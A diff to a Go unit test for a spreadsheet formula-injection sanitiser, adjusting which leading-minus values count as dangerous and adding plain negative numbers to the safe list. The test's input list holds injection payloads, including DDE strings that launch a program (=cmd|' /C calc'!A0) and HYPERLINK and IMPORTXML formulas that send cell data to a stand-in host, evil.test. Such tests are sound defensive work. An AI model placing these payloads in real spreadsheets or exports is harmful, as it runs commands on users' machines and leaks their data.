@@ -116,12 +116,12 @@ func (broken) Write([]byte) (int, error) { return 0, errBroken }
 // the text can be had again.
 func TestSec_F04_FormulasAreHarmless(t *testing.T) {
 	bad := []string{
-		"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
+		"=1+1", "+1", "-1+1", "-1;", "-.5", "-1.", "-1\n", "-1e5", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
 		`=cmd|' /C calc'!A0`, `=HYPERLINK("https://evil.test?"&A1,"x")`, `=IMPORTXML("https://evil.test")`,
 		`+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `=1;2`, `="a"`, `=DDE("a";"b";"c")`,
 		"=\u00001", `=1","2`, "-", "=", "+", "@", "\t", "\r", "\n", "＝",
 	}
-	fine := []string{"", "a=1", "1+1", " =1", "'=1", "a@example.com", "x\t=1", "–1", "#N/A"}
+	fine := []string{"", "a=1", "1+1", " =1", "'=1", "a@example.com", "x\t=1", "–1", "#N/A", "-1", "-25.89", "-0"}
 	for _, text := range bad {
 		if got := io.Harmless(text); got != "'"+text {
 			t.Errorf("%q becomes %q", text, got)
